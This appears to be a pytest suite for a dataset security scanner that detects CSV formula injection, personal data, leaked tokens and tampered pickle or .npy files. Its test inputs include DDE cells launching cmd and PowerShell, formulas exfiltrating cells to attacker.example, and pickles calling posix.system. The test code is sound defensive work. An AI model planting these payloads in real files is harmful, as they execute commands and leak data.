"""Text datasets: formula injection, personal data per column, sampling, compression, bad input.

CSV files are written with the ``csv`` module (what most exporters use), JSON with ``json``;
the committed fixtures under ``fixtures/data/text`` were written by pandas.
"""

from __future__ import annotations

import bz2
import csv
import gzip
import io
import json
import random
import struct
from pathlib import Path

import pytest

from mlsec.model import ScanResult, Severity
from mlsec.scanners.data_text import BUDGET_ENV, classify_formula, data_budget
from tests.conftest import FIXTURES, rules_of, scan_bytes, scan_path

TEXT_FIXTURES = FIXTURES / "data" / "text"


def write_csv(path: Path, rows: list[list[object]], **kw: object) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh, **kw).writerows(rows)  # type: ignore[arg-type]
    return path


def findings(result: ScanResult, rule: str) -> list[dict[str, str]]:
    """Evidence dicts of the findings of one rule (with the message and line added)."""
    out = []
    for f in result.findings:
        if f.rule_id == rule:
            ev = dict(f.evidence)
            ev["_message"] = f.message
            ev["_line"] = str(f.location.line)
            ev["_severity"] = f.severity.label
            out.append(ev)
    return out


def facts(result: ScanResult) -> dict[tuple[str, str], str]:
    return {(f.path.rsplit("/", 1)[-1], f.name): f.value for f in result.facts}


# --- formulas -----------------------------------------------------------------------------

@pytest.mark.parametrize(
    ("cell", "kind"),
    [
        ("=1+1", "formula"),
        ("=SUM(A1:A9)", "formula"),
        ("=A1", "formula"),
        ('="a"&"b"', "formula"),
        ("\t=1+1", "formula"),
        ("\r=SUM(1,2)", "formula"),
        ("+SUM(A1:A2)", "formula"),
        ("-SUM(A1:A2)*2", "formula"),
        ("@SUM(1,2)", "formula"),
        ("=cmd|' /C calc'!A0", "dde"),
        ("=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", "dde"),
        ("-2+3+cmd|' /C calc'!A0", "dde"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "dde"),
        ("+cmd|' /C powershell IEX(wget attacker.example/s)'!A0", "dde"),
        ('=DDE("cmd";"/C calc";"!A0")', "dde"),
        ('=HYPERLINK("http://attacker.example/?d="&A1,"Click")', "dde"),
        ('=WEBSERVICE("http://attacker.example/"&A2)', "dde"),
        ('=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")', "dde"),
        ('+hyperlink("http://attacker.example")', "dde"),
        ("\t=cmd|'/c calc'!A1", "dde"),
    ],
)
def test_formulas_are_classified(cell: str, kind: str) -> None:
    verdict = classify_formula(cell)
    assert verdict is not None and verdict[0] == kind


@pytest.mark.parametrize(
    "cell",
    ["-12.5", "+3", "-1.5e3", "-1,234.56", "+44 20 7946 0958", "+1 (415) 555-2671", "- a Markdown bullet",
     "@alice thanks for the fix", "@Override public void run()", "== History ==", "=====", "=> see below",
     "+3 more items", "-", "+", "=", "plain text", "", " =1+1", "x=1+1", "email@example.com", "-v --verbose"],
)
def test_non_formulas_are_not_flagged(cell: str) -> None:
    assert classify_formula(cell) is None


def test_formula_injection_in_a_csv_file(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "export.csv", [
        ["id", "amount", "comment", "phone"],
        [1, "-12.50", "- first bullet", "+44 20 7946 0958"],
        [2, "+3", "=cmd|' /C calc'!A0", "+1 (415) 555-2671"],
        [3, "-1.5e3", '=HYPERLINK("http://attacker.example/?x="&A1)', ""],
        [4, "7", "=1+1", ""],
        [5, "\t=SUM(1,2)", "@bob see above", ""],
    ])
    result = scan_path(path)
    dde = findings(result, "MLSEC-DATA-003")
    assert [(f["column"], f["count"], f["_line"], f["_severity"]) for f in dde] == [("comment", "2", "3", "high")]
    assert dde[0]["functions"] == "HYPERLINK"
    plain = findings(result, "MLSEC-DATA-002")
    assert sorted((f["column"], f["count"]) for f in plain) == [("amount", "1"), ("comment", "1")]
    assert {f["column"] for f in plain + dde} == {"amount", "comment"}  # phones and numbers untouched
    # The phones are still personal data: reported as such, not as formulas.
    (phones,) = findings(result, "MLSEC-DATA-005")
    assert (phones["column"], phones["count"], phones["kind"]) == ("phone", "2", "phone")


def test_formulas_are_not_checked_in_json(tmp_path: Path) -> None:
    rows = "".join(json.dumps({"cell": "=cmd|' /C calc'!A0"}) + "\n" for _ in range(3))
    result = scan_bytes(tmp_path, "rows.jsonl", rows.encode())
    assert not rules_of(result) & {"MLSEC-DATA-002", "MLSEC-DATA-003"}


def test_tsv_uses_tabs(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "sheet.tsv", [["a", "b"], ["x, y", "=SUM(1,2)"], ["jane@example.com", "1"]],
                     delimiter="\t")
    result = scan_path(path)
    assert [(f["column"], f["count"]) for f in findings(result, "MLSEC-DATA-002")] == [("b", "1")]
    assert [f["column"] for f in findings(result, "MLSEC-DATA-005")] == ["a"]


def test_semicolon_csv_is_split_on_semicolons(tmp_path: Path) -> None:
    data = "name;mail;amount\nJane;jane@example.com;-3,50\nBob;bob@example.org;=1+2\n"
    result = scan_bytes(tmp_path, "eu.csv", data.encode())
    assert [f["column"] for f in findings(result, "MLSEC-DATA-005")] == ["mail"]
    assert [f["column"] for f in findings(result, "MLSEC-DATA-002")] == ["amount"]


# --- personal data and credentials --------------------------------------------------------

def test_counts_per_kind_and_column_with_lines_and_masked_samples(tmp_path: Path) -> None:
    rows: list[list[object]] = [["user", "email", "notes"]]
    for i in range(30):
        rows.append([f"u{i}", f"person{i}@mail.example.org", "nothing here" if i % 10 else "ssn 123-45-6789"])
    path = write_csv(tmp_path / "users.csv", rows)
    result = scan_path(path)
    (mails,) = findings(result, "MLSEC-DATA-005")
    assert (mails["column"], mails["count"], mails["_line"]) == ("email", "30", "2")
    assert mails["masked_samples"].split(", ")[0] == "pers…(24 chars)"  # person0@mail.example.org
    (ssn,) = findings(result, "MLSEC-DATA-004")
    assert (ssn["column"], ssn["count"], ssn["kind"], ssn["_line"]) == ("notes", "3", "us_ssn", "2")
    assert ssn["coverage"] == f"bytes {path.stat().st_size}/{path.stat().st_size}; rows 30/30"
    got = facts(result)
    assert got[("users.csv", "dataset.sensitive_kinds")] == "email,us_ssn"
    assert got[("users.csv", "dataset.rows")] == "30" and got[("users.csv", "dataset.columns")] == "3"
    assert "person1@mail.example.org" not in json.dumps(result.to_dict())


def test_credentials_in_a_column(tmp_path: Path) -> None:
    token = "hf_" + "QwErTyUiOpAsDfGhJkLzXcVbNmQwErTyUi"
    path = write_csv(tmp_path / "logs.csv", [["ts", "line"], ["1", f"export HF_TOKEN={token}"], ["2", "ok"]])
    result = scan_path(path)
    (secret,) = findings(result, "MLSEC-DATA-007")
    assert (secret["column"], secret["kind"], secret["_line"]) == ("line", "huggingface-token", "2")
    assert token not in json.dumps(result.to_dict()) and secret["masked_samples"].startswith("hf_")
    assert "secret" in facts(result)[("logs.csv", "dataset.sensitive_kinds")]


def test_a_sensitive_header_cell_is_data_not_a_column_name(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "raw.csv", [["jane@example.com", "42"], ["bob@example.org", "7"]])
    result = scan_path(path)
    (mails,) = findings(result, "MLSEC-DATA-005")
    assert (mails["column"], mails["count"]) == ("column 1", "2")
    assert "jane@example.com" not in json.dumps(result.to_dict())


def test_json_keys_values_nesting_and_escapes(tmp_path: Path) -> None:
    doc = {"users": [{"profile": {"email": "a.person@example.com", "ip": "81.2.69.160"}},
                     {"profile": {"email": "b\u0040example.org"}}],
           "by_address": {"c.person@example.com": {"orders": 2}},
           "note": "line one\nphone +44 20 7946 0958"}
    result = scan_bytes(tmp_path, "export.json", json.dumps(doc, indent=2).encode())
    by = {(f["kind"], f["column"]): f for f in findings(result, "MLSEC-DATA-005") + findings(result, "MLSEC-DATA-006")}
    assert by[("email", "email")]["count"] == "2"
    assert by[("email", "(key names)")]["count"] == "1"
    assert ("ip_address", "ip") in by and ("phone", "note") in by
    assert "c.person@example.com" not in json.dumps(result.to_dict())
    assert by[("email", "email")]["_line"] == "5"


def test_jsonl_rows_columns_and_broken_lines(tmp_path: Path) -> None:
    lines = [json.dumps({"id": i, "text": f"mail me: u{i}@example.org"}) for i in range(10)]
    lines.insert(4, '{"id": 99, "text": "unterminated')
    lines.insert(7, "")
    result = scan_bytes(tmp_path, "rows.jsonl", ("\n".join(lines) + "\n").encode())
    (mails,) = findings(result, "MLSEC-DATA-005")
    assert (mails["column"], mails["count"]) == ("text", "10")
    got = facts(result)
    assert got[("rows.jsonl", "dataset.rows")] == "11" and got[("rows.jsonl", "dataset.columns")] == "2"


def test_config_json_gets_credentials_checked_but_not_personal_data(tmp_path: Path) -> None:
    doc = {"name": "x", "author": "Jane Doe <jane@example.com>",
           "token": "hf_" + "QwErTyUiOpAsDfGhJkLzXcVbNmQwErTyUi"}
    result = scan_bytes(tmp_path, "package.json", json.dumps(doc).encode())
    assert rules_of(result) == {"MLSEC-DATA-007"}
    result = scan_bytes(tmp_path, "people.json", json.dumps(doc).encode())
    assert {"MLSEC-DATA-005", "MLSEC-DATA-007"} <= rules_of(result)
    # Small configuration JSON is read whole by the secrets scanner: reported once, by it.
    result = scan_bytes(tmp_path, "config.json", json.dumps(doc).encode())
    assert "MLSEC-DATA-007" not in rules_of(result)
    assert any(r.startswith("MLSEC-SECRET-") for r in rules_of(result))


def test_utf16_and_bom_encoded_csv(tmp_path: Path) -> None:
    text = "name,mail\r\nJane,jane@example.com\r\n"
    for enc, name in (("utf-16", "u16.csv"), ("utf-8-sig", "bom.csv")):
        result = scan_bytes(tmp_path, name, text.encode(enc))
        assert [(f["column"], f["count"]) for f in findings(result, "MLSEC-DATA-005")] == [("mail", "1")], enc


# --- big files: sampling and coverage -------------------------------------------------------

def test_budget_env_var(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(BUDGET_ENV, raising=False)
    assert data_budget() == 256 << 20
    monkeypatch.setenv(BUDGET_ENV, "1.5")
    assert data_budget() == int(1.5 * (1 << 20))
    monkeypatch.setenv(BUDGET_ENV, "0")
    assert data_budget() >= 1 << 60
    monkeypatch.setenv(BUDGET_ENV, "lots")
    assert data_budget() == 256 << 20


def _big_csv(path: Path, rows: int) -> Path:
    rng = random.Random(7)
    words = ["alpha", "beta", "gamma", "delta", "epsilon", "zeta", "eta", "theta", "iota", "kappa"]
    with path.open("w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "contact", "text"])
        for i in range(rows):
            contact = f"user{i}@mail.example.org" if i % 100 == 0 else "n/a"
            w.writerow([i, contact, " ".join(rng.choices(words, k=12))])
    return path


def test_above_the_budget_windows_are_sampled_and_coverage_recorded(tmp_path: Path,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    path = _big_csv(tmp_path / "big.csv", 120_000)  # about 11 MB
    size = path.stat().st_size
    monkeypatch.setenv(BUDGET_ENV, "2")
    result = scan_path(path)
    (sampled,) = findings(result, "MLSEC-DATA-014")
    scanned = int(sampled["coverage"].split()[1].split("/")[0])
    assert 0.9 * (2 << 20) <= scanned < size // 3  # windows start after a line break
    assert f"/{size};" in sampled["coverage"] and "/~" in sampled["coverage"]
    (mails,) = findings(result, "MLSEC-DATA-005")
    assert 150 <= int(mails["count"]) < 1200 and mails["coverage"] == sampled["coverage"]
    assert "sampled" in mails["_message"]
    got = facts(result)
    assert got[("big.csv", "dataset.coverage")] == sampled["coverage"]
    assert ("big.csv", "dataset.rows") not in got  # unknown when sampled: only estimated in the coverage
    estimate = int(sampled["coverage"].split("/~")[1])
    assert 100_000 < estimate < 140_000
    # The same file in full once the budget allows it.
    monkeypatch.setenv(BUDGET_ENV, "0")
    full = scan_path(path, use_cache=False)
    assert "MLSEC-DATA-014" not in rules_of(full)
    assert [f["count"] for f in findings(full, "MLSEC-DATA-005")] == ["1200"]
    assert facts(full)[("big.csv", "dataset.rows")] == "120000"


def test_compressed_text_is_read_up_to_the_budget(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    rows = "id,mail\n" + "".join(f"{i},p{i}@example.org\n" for i in range(50))
    result = scan_bytes(tmp_path, "a.csv.gz", gzip.compress(rows.encode()))
    assert [(f["column"], f["count"]) for f in findings(result, "MLSEC-DATA-005")] == [("mail", "50")]
    assert facts(result)[("a.csv.gz", "dataset.rows")] == "50"
    result = scan_bytes(tmp_path, "b.jsonl.bz2", bz2.compress(b'{"m": "q@example.org"}\n' * 3))
    assert [f["count"] for f in findings(result, "MLSEC-DATA-005")] == ["3"]
    big = "id,mail\n" + "".join(f"{i},x{i}@example.org\n" for i in range(200_000))
    monkeypatch.setenv(BUDGET_ENV, "1")
    result = scan_bytes(tmp_path, "big.csv.gz", gzip.compress(big.encode()))
    assert "MLSEC-DATA-014" in rules_of(result)
    (mails,) = findings(result, "MLSEC-DATA-005")
    assert 10_000 < int(mails["count"]) < 200_000


def test_damaged_compressed_text_is_a_finding_with_what_was_read(tmp_path: Path) -> None:
    data = gzip.compress(("id,mail\n" + "".join(f"{i},p{i}@example.org\n" for i in range(20_000))).encode())
    result = scan_bytes(tmp_path, "cut.csv.gz", data[: len(data) // 2])
    assert not result.errors
    assert "MLSEC-DATA-015" in rules_of(result)
    assert findings(result, "MLSEC-DATA-005")  # the part before the damage was scanned


# --- hostile and malformed input ----------------------------------------------------------

@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("junk.csv", bytes(range(256)) * 400),
        ("nul.csv", b"a,b\n\x00\x00,\x00x@example.org\n"),
        ("quote.csv", b'a,b\n"never closed,' + b"x" * 300_000 + b"\n1,2\n"),
        ("one_line.csv", b"a," * 3_000_000),
        ("deep.json", b"[" * 200_000 + b"]" * 200_000),
        ("deep_obj.json", b'{"a":' * 100_000 + b"1" + b"}" * 100_000),
        ("unterminated.json", b'{"k": "' + b"v" * (9 << 20)),
        ("huge_string.jsonl", b'{"k": "' + b"y" * (9 << 20) + b' z@example.org"}\n{"m": "w@example.org"}\n'),
        ("empty.csv", b""),
        ("only_header.csv", b"a,b,c\n"),
        ("crlf_mix.tsv", b"a\tb\r\n1\t=1+1\r2\t3\n"),
        ("latin1.csv", "name,mail\nJos\xe9,jose@example.com\n".encode("latin-1")),
    ],
)
def test_bad_input_never_crashes(tmp_path: Path, name: str, data: bytes) -> None:
    result = scan_bytes(tmp_path, name, data)
    assert not result.errors, result.errors
    if name == "huge_string.jsonl":  # the end of the huge string and the line after are still scanned
        assert sorted((f["column"], f["count"]) for f in findings(result, "MLSEC-DATA-005")) == [("k", "1"),
                                                                                             ("m", "1")]
    if name == "latin1.csv":
        assert [f["column"] for f in findings(result, "MLSEC-DATA-005")] == ["mail"]


def test_time_budget_keeps_partial_findings_and_fails_closed(tmp_path: Path) -> None:
    from mlsec.engine.context import Limits

    path = _big_csv(tmp_path / "slow.csv", 20_000)
    result = scan_path(path, limits=Limits(timeout=1e-6))
    (error,) = result.errors
    assert error.scanner == "mlsec-data-text" and "DeadlineExceeded" in error.message
    (mails,) = findings(result, "MLSEC-DATA-005")  # the first batch was scanned and is kept
    assert 0 < int(mails["count"]) < 200


def test_an_unclosed_quote_does_not_hide_what_follows(tmp_path: Path) -> None:
    data = b"a,b\n" + b'x,"unclosed\n' + b"1,2\n" * 10 + b"3,jane@example.com\n"
    result = scan_bytes(tmp_path, "bad.csv", data)
    assert not result.errors
    assert [(f["column"], f["count"]) for f in findings(result, "MLSEC-DATA-005")] == [("b", "1")]


# --- pickled datasets go through the pickle engine ---------------------------------------

def _frame_pickle_with_payload() -> bytes:
    """A pickle shaped like pandas' DataFrame.to_pickle, plus a call to os.system.

    Written opcode by opcode (no pandas import): the frame's reconstruction globals, then a
    REDUCE of posix.system inside the state, as a tampered ``train.pkl`` would carry it.
    """
    out = io.BytesIO()
    out.write(b"\x80\x04")
    out.write(b"\x8c\x11pandas.core.frame\x94\x8c\tDataFrame\x94\x93\x94)\x81\x94")
    out.write(b"}\x94(\x8c\x04_mgr\x94")
    out.write(b"\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x0ecurl x.example\x94\x85\x94R\x94")
    out.write(b"\x8c\x05_typ\x94\x8c\tdataframe\x94u")
    out.write(b"b.")
    return out.getvalue()


def test_pickled_dataframe_dataset_with_a_payload_is_flagged(tmp_path: Path) -> None:
    data = _frame_pickle_with_payload()
    for name, blob in (("train.pkl", data), ("train.pkl.gz", gzip.compress(data)), ("train.pickle", data)):
        result = scan_bytes(tmp_path / name.replace(".", "_"), f"datasets/{name}", blob)
        crit = [f for f in result.findings if f.severity == Severity.CRITICAL]
        assert crit and dict(crit[0].evidence)["global"] == "posix.system", name


def test_object_npy_dataset_with_a_payload_is_flagged(tmp_path: Path) -> None:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    payload = b"\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."
    blob = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload
    result = scan_bytes(tmp_path, "features.npy", blob)
    assert any(f.severity == Severity.CRITICAL for f in result.findings)


# --- the committed fixtures (written by pandas) ------------------------------------------

def test_pandas_fixtures_are_clean_and_described() -> None:
    if not TEXT_FIXTURES.is_dir():
        pytest.skip("fixtures/data/text missing (run fixtures/make_data_fixtures.py)")
    result = scan_path(TEXT_FIXTURES)
    assert [f for f in result.findings if f.severity >= Severity.INFO] == []
    assert not result.errors and not result.skipped
    got = facts(result)
    for name in ("sales.csv", "sales.tsv", "sales.csv.gz", "sales.jsonl"):
        assert got[(name, "dataset.rows")] == "40", name
        assert got[(name, "dataset.columns")] == "6", name
    assert got[("sales.json", "dataset.coverage")].startswith("bytes ")
